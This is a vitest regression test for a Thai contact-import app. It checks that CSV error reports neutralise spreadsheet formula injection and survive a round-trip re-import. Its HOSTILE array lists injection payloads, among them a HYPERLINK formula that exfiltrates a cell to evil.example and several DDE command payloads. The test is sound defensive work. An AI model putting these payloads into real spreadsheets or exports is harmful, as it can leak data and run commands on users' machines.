import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { writeErrorReport } from '../../src/main/core/imports/error-report';
import { parseSheet } from '../../src/main/core/imports/parse-sheet';

// Review of issue 11 (imports): a spreadsheet handed to the office may carry cells such as
// `=HYPERLINK("http://…","ดูรายละเอียด")` in a name column. Those rows fail the check and come
// back in the CSV error report, which the clerk opens in Excel to fix: Kaona must not write a
// live formula there (docs/security.md, "Found in review", issue 11).

const dir = mkdtempSync(join(tmpdir(), 'kaona-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&B2,"ดูรายละเอียด")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

describe('found in review: the CSV error report writes no live formula', () => {
  it('neutralises formula cells, and a re-import reads the cells as they were', async () => {
    const path = join(dir, 'errors.csv');
    const headers = ['ชื่อ', 'นามสกุล', 'โทรศัพท์', 'ไลน์'];
    const failed = HOSTILE.map((cell, index) => ({
      rowNumber: index + 2,
      cells: [cell, 'ทดสอบ', '+66812345678', '@shop.line'],
    }));
    await writeErrorReport(path, 'csv', headers, failed, []);

    // What Excel sees: every cell of the file as written.
    const text = readFileSync(path, 'utf8').replace(/^\uFEFF/, '');
    const written = Papa.parse<string[]>(text, { skipEmptyLines: 'greedy' }).data;
    for (const row of written.slice(1))
      for (const cell of row) expect(cell, row.join(' | ')).not.toMatch(/^[=+\-@\t\r]/);

    // The person fixes the file and imports it again: the cells come back unchanged.
    const sheet = await parseSheet(readFileSync(path));
    expect(sheet.rows.slice(1).map((row) => row.slice(0, 4))).toEqual(
      HOSTILE.map((cell) => [cell, 'ทดสอบ', '+66812345678', '@shop.line']),
    );
  });
});
